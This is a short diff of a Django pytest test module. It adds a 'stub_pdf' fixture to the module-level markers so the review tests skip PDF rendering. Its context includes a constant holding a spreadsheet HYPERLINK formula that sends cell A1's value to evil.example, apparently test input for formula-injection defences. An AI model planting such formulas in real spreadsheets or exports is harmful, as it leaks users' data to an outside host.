@@ -21,7 +21,8 @@ from assessor.records import selectors
 from assessor.review import services as review
 from tests.builders import LOWER_TRUST, SAFEST, make_assessment
 
-pytestmark = pytest.mark.django_db
+# approvals here store a stub PDF: these tests are about the review, not the rendering
+pytestmark = [pytest.mark.django_db, pytest.mark.usefixtures("stub_pdf")]
 
 HYPERLINK = '=HYPERLINK("https://evil.example/?x="&A1,"Click")'
 
